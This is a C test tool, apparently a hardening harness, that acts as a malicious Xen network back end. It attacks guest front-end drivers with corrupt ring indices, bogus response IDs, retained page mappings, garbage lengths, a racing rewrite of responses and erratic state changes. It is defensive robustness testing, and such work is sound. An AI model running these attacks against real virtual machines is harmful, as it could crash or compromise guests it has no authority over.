// SPDX-License-Identifier: GPL-2.0
/*
 * hostile-netback DIRECTORY... - network back ends that each break one rule of the
 * protocol against the front ends of these xenstore directories. The last part of a
 * directory's name is the card's number, and selects the attack. Each behaves correctly
 * until the first packet has arrived. The attacked kernel's log has its reaction.
 */
#include <pthread.h>
#include "netif.h"

enum attack {
	TX_FAR = 1, TX_BIG_ID, TX_IDLE_ID, TX_KEPT, RX_FAR, RX_KEPT, RX_GARBAGE,
	RX_REWRITTEN, STATES, RX_AGAIN,
};
enum { ICMP = 1, UDP = 17, UDP_PORT = 4711 };

static const char *back;
static char front[128];
static int domain, port;
static enum attack attack;
static struct ring *tx, *rx;
static uint32_t taken;

/*
 * Packets to 10.9.N.1: an echo request whose length no honest packet here has, or a
 * datagram without a checksum to UDP_PORT.
 */
static void frame(uint8_t *mem, unsigned int protocol, unsigned int length)
{
	uint8_t mac[6], ip[20] = { 0x45, [8] = 64, [9] = protocol };
	unsigned int i, sum = 0;
	char text[32];

	xs_read(front, "mac", text, sizeof(text));
	sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1,
	       mac + 2, mac + 3, mac + 4, mac + 5);
	memset(mem, 0, 128);
	memcpy(mem, mac, 6);
	memcpy(mem + 6, "\2\0\0\0\0\1\10\0", 8);
	ip[2] = length >> 8;
	ip[3] = length;
	memcpy(ip + 12, (uint8_t []){ 10, 9, attack, 2, 10, 9, attack, 1 }, 8);
	for (i = 0; i < 20; i += 2)
		sum += ip[i] << 8 | ip[i + 1];
	sum = ~((sum & 0xffff) + (sum >> 16));
	ip[10] = sum >> 8;
	ip[11] = sum;
	memcpy(mem + 14, ip, 20);
	if (protocol == ICMP) {
		mem[34] = 8;
		return;
	}
	mem[36] = UDP_PORT >> 8;
	mem[37] = UDP_PORT & 255;
	mem[38] = (length - 20) >> 8;
	mem[39] = length - 20;
}

/* The response at this distance after the last one; 0 is the next */
static void prepare(int behind, unsigned int offset, int status,
		    unsigned int flags)
{
	struct rx_request *request = rx_slot(rx, rx->rsp_prod + behind);

	*(struct rx_response *)rx_slot(rx, rx->rsp_prod + behind) =
		(struct rx_response){ request->id, offset, flags, status };
}

static void publish(unsigned int number)
{
	__sync_synchronize();
	rx->rsp_prod += number;
}

static void deliver(unsigned int offset, int status, unsigned int flags)
{
	prepare(0, offset, status, flags);
	publish(1);
}

static void deliver_extra(unsigned int type, unsigned int size,
			  unsigned int gso)
{
	struct extra *extra = rx_slot(rx, rx->rsp_prod);

	*extra = (struct extra){ type, 0, size, gso, 0, 0 };
	publish(1);
}

/* Notify, and wait until the other end has taken all and asks for the next */
static void tell(void)
{
	int i;

	event_send(port);
	for (i = 0; i < 300 && rx->rsp_event != rx->rsp_prod + 1; i++)
		usleep(1000);
}

static void good_packet(unsigned int protocol)
{
	struct rx_request *request = rx_slot(rx, rx->rsp_prod);
	uint8_t *mem = page_map(domain, request->ref, BOTH);

	if (!mem)
		return;
	frame(mem, protocol, 84);
	munmap(mem, 4096);
	deliver(0, 98, RX_VALIDATED);
	tell();
}

static void garbage(void)
{
	static const int bad[][2] = {
		{ 4000, 200 }, { 65535, 1 }, { 0, -1 }, { 0, -32768 },
		{ 0, 32767 }, { 0, 0 }, { 0, 5 }, { 4095, 1 },
	};
	unsigned int i;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		deliver(bad[i][0], bad[i][1], 0);
		deliver(bad[i][0], bad[i][1], RX_CSUM_BLANK);
		tell();
	}
	for (i = 0; i < 30; i++)
		deliver(0, i, i < 29 ? RX_MORE : 0);
	tell();
	deliver(0, 64, RX_MORE);
	tell();
	deliver(0, 64, RX_EXTRA);
	tell();
	for (i = 0; i < 4; i++) {
		deliver(0, 64, RX_EXTRA | RX_CSUM_BLANK);
		deliver_extra(i ? EXTRA_GSO : 200, i / 2, i & 1 ? 9 : 1);
		tell();
	}
	good_packet(ICMP);
}

static void *rewrite(void *unused)
{
	volatile struct rx_response *r;

	for (;;) {
		pthread_testcancel();
		r = rx_slot(rx, rx->rsp_prod - 1);
		r->offset = 0;
		r->status = 100;
		r->offset = 60000;
		r->status = 30000;
	}
	return unused;
}

/* Change the second part of each packet while the front end checks it */
static void rewritten(void)
{
	unsigned int round, ref;
	pthread_t thread;
	uint8_t *mem;

	pthread_create(&thread, NULL, rewrite, NULL);
	for (round = 0; round < 300; round++) {
		ref = ((struct rx_request *)rx_slot(rx, rx->rsp_prod))->ref;
		mem = page_map(domain, ref, BOTH);
		if (!mem)
			break;
		frame(mem, ICMP, 30000 + 86);
		munmap(mem, 4096);
		prepare(0, 0, 100, RX_MORE);
		prepare(1, 0, 100, 0);
		publish(2);
		tell();
	}
	pthread_cancel(thread);
	pthread_join(thread, NULL);
	good_packet(ICMP);
}

static void two_bad_parts(int behind)
{
	prepare(behind, 4001, 200, RX_MORE);
	prepare(behind + 1, 4001, 200, RX_MORE);
}

/*
 * The front end cannot take the third part of a packet. By then it has returned the
 * buffers of the first two parts, and written that into their slots; here they come
 * again. A program there polls the card later.
 */
static void again(void)
{
	struct rx_request *kept = rx_slot(rx, rx->rsp_prod + 3);

	if (!page_map(domain, kept->ref, BOTH))
		warnx("the page for a packet cannot be mapped");
	good_packet(UDP);
	two_bad_parts(0);
	prepare(2, 0, 64, 0);
	publish(3);
	tell();
	two_bad_parts(-3);
}

static void states(void)
{
	static const int jump[] = {
		5, 4, 6, 2, 4, 1, 3, 7, 99, 4, 2, 6, 5, 4,
	};
	unsigned int i, round;

	for (round = 0; round < 3; round++)
		for (i = 0; i < sizeof(jump) / sizeof(jump[0]); i++) {
			xs_write(back, "state", "%d", jump[i]);
			usleep(round * 50000);
		}
}

static void strike(const struct tx_request *r)
{
	struct tx_response *answer = tx_slot(tx, tx->rsp_prod);
	struct rx_request *room = rx_slot(rx, rx->rsp_prod);

	switch (attack) {
	case TX_FAR:
		tx->rsp_prod += 1000;
		break;
	case TX_BIG_ID:
	case TX_IDLE_ID:
		answer->id = attack == TX_BIG_ID ? 999 :
			     (r->id + 100) % NET_RING;
		answer->status = RSP_OKAY;
		tx->rsp_prod++;
		break;
	case TX_KEPT:
		if (!page_map(domain, r->ref, PROT_READ))
			warnx("the page of a packet cannot be mapped");
		*answer = (struct tx_response){ r->id, RSP_OKAY };
		tx->rsp_prod++;
		break;
	case RX_FAR:
		rx->rsp_prod += 1000;
		break;
	case RX_KEPT:
		if (!page_map(domain, room->ref, BOTH))
			warnx("the page for a packet cannot be mapped");
		deliver(0, 64, 0);
		break;
	case RX_GARBAGE:
		garbage();
		break;
	case RX_REWRITTEN:
		rewritten();
		break;
	case STATES:
		states();
		break;
	case RX_AGAIN:
		again();
	}
	event_send(port);
}

static void play(const char *directory)
{
	struct tx_request r;

	back = directory;
	if (!xs_read(back, "frontend", front, sizeof(front)))
		errx(1, "%s: no front end", back);
	domain = xs_number(back, "frontend-id", 0);
	attack = atoi(strrchr(back, '/') + 1);
	xs_write(back, "feature-rx-copy", "1");
	xs_write(back, "feature-sg", "4294967295");
	xs_write(back, "state", "%d", INIT_WAIT);
	if (!xs_wait(front, "state", CONNECTED, 60))
		errx(1, "%s: no front end", back);
	tx = page_map(domain, xs_number(front, "tx-ring-ref", 0), BOTH);
	rx = page_map(domain, xs_number(front, "rx-ring-ref", 0), BOTH);
	port = event_take(domain, xs_number(front, "event-channel", 0));
	if (!tx || !rx || port < 0)
		err(1, "%s: no rings", back);
	xs_write(back, "state", "%d", CONNECTED);
	while (taken == tx->req_prod)
		usleep(10000);
	r = *(struct tx_request *)tx_slot(tx, taken++);
	strike(&r);
	printf("%s: attacked\n", back);
	fflush(stdout);
	for (;;)	/* keep the mappings */
		pause();
}

int main(int argc, char **argv)
{
	return play_each(argc, argv, play);
}
